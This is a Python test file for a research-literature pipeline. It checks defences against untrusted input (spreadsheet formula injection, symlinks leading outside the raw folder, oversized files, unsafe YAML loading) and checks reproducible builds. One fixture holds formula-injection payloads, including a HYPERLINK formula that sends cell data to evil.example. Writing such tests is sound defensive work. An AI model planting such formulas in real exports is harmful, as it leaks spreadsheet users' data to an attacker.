"""Untrusted input (RELIABILITY S1, S2, S4, S6, S7, D2) and reproducibility (R1, R3)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from pathlib import Path

import duckdb
import pandas as pd

from tests.conftest import SEED, make_raw, run_build

REPO = Path(__file__).resolve().parents[2]
CODE = [p for p in (REPO / "pipelines").rglob("*.py")] + [p for p in (REPO / "schemas").rglob("*.py")]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def test_formula_titles_never_reach_a_spreadsheet_as_formulas(tmp_path):
    raw = make_raw(tmp_path)
    (raw / "references").mkdir()
    (raw / "references" / "payload.ris").write_text(
        'TY  - JOUR\nTI  - =HYPERLINK("http://evil.example/?x="&A1,"Click for the full text")\nAU  - +Cmd, A\nPY  - 2020\n'
        "AB  - -2+3 @SUM(A1:A9) Exercise increased BDNF.\nER  -\n",
        encoding="utf-8",
    )
    processed = tmp_path / "processed"
    assert run_build(raw, processed) == 0
    for name in ("bibliography", "evidence", "evidence_map", "meta_analysis", "rejected_records"):
        text = (processed / "exports" / f"{name}.csv").read_text(encoding="utf-8")
        assert not text.startswith("\ufeff")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(TRIGGERS), (name, cell)
    bibliography = (processed / "exports" / "bibliography.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in bibliography
    meta = pd.read_csv(processed / "exports" / "meta_analysis.csv")
    assert meta["reference_number"].dropna().map(float.is_integer).all()


def test_links_out_of_the_raw_folder_and_oversized_files_are_refused(tmp_path):
    secret = tmp_path / "outside" / "secret.md"
    secret.parent.mkdir()
    secret.write_text("# Secret\n\n## Body\n\nTOP-SECRET ketamine increases BDNF [1].\n", encoding="utf-8")
    raw = make_raw(tmp_path)
    os.symlink(secret, raw / "reviews" / "linked.md")
    with open(raw / "reviews" / "huge.md", "wb") as fh:
        fh.truncate(60 * 1024 * 1024)  # sparse: refused by its size before a byte is read
    (raw / "reviews" / "bad name!.md").write_text("# x", encoding="utf-8")
    processed = tmp_path / "processed"
    assert run_build(raw, processed) == 0
    con = duckdb.connect(str(processed / "warehouse.duckdb"), read_only=True)
    reasons = dict(con.execute("SELECT source_file, reason FROM rejected_records WHERE target = 'reviews'").fetchall())
    assert "outside the raw folder" in reasons["reviews/linked.md"]
    assert "over the" in reasons["reviews/huge.md"]
    assert "not usable as an id" in reasons["reviews/bad name!.md"]
    for table in ("sentences", "evidence", "rejected_records"):
        assert con.execute(f"SELECT count(*) FROM {table} WHERE CAST({table} AS VARCHAR) LIKE '%TOP-SECRET%'").fetchone()[0] == 0


def test_no_unsafe_yaml_and_no_dropped_rows_in_the_code():
    for path in CODE:
        text = path.read_text(encoding="utf-8")
        assert "drop_invalid_rows" not in text, path
        assert not re.search(r"yaml\.(unsafe_)?load\((?![^)]*SafeLoader)", text), path


def _fingerprints(processed: Path) -> dict:
    return json.loads((processed / "manifest.json").read_text())["table_fingerprints"]


def test_crlf_and_file_order_give_the_same_ids_fingerprints_and_exports(tmp_path):
    first_raw = make_raw(tmp_path / "a")
    (first_raw / "reviews" / "b_second.md").write_text((REPO / "tests/fixtures/reviews/trd_neuromodulation.md").read_text(encoding="utf-8"), encoding="utf-8")
    assert run_build(first_raw, tmp_path / "a" / "processed") == 0

    second_raw = make_raw(tmp_path / "b", with_seed=False)
    crlf = SEED.read_text(encoding="utf-8").replace("\n", "\r\n").encode("utf-8")
    (second_raw / "reviews" / SEED.name).write_bytes(crlf)
    shutil.copy(REPO / "tests/fixtures/reviews/trd_neuromodulation.md", second_raw / "reviews" / "b_second.md")
    os.environ["TZ"] = "Pacific/Auckland"
    try:
        assert run_build(second_raw, tmp_path / "b" / "processed") == 0
    finally:
        os.environ.pop("TZ", None)
    assert _fingerprints(tmp_path / "a" / "processed") == _fingerprints(tmp_path / "b" / "processed")
    for export in sorted((tmp_path / "a" / "processed" / "exports").glob("*.csv")):
        if export.name == "rejected_records.csv":
            continue
        assert export.read_bytes() == (tmp_path / "b" / "processed" / "exports" / export.name).read_bytes(), export.name


def test_a_real_content_change_alters_only_the_affected_ids(tmp_path):
    raw = make_raw(tmp_path)
    processed = tmp_path / "processed"
    assert run_build(raw, processed) == 0
    before = set(duckdb.connect(str(processed / "warehouse.duckdb"), read_only=True).execute("SELECT evidence_id FROM evidence").df()["evidence_id"])
    text = SEED.read_text(encoding="utf-8").replace("Dietary choices also influence neuroplasticity.", "Dietary choices also enhance neuroplasticity.")
    (raw / "reviews" / SEED.name).write_text(text, encoding="utf-8")
    assert run_build(raw, processed) == 0
    after = set(duckdb.connect(str(processed / "warehouse.duckdb"), read_only=True).execute("SELECT evidence_id FROM evidence").df()["evidence_id"])
    assert len(before - after) == 1 and len(after - before) == 1
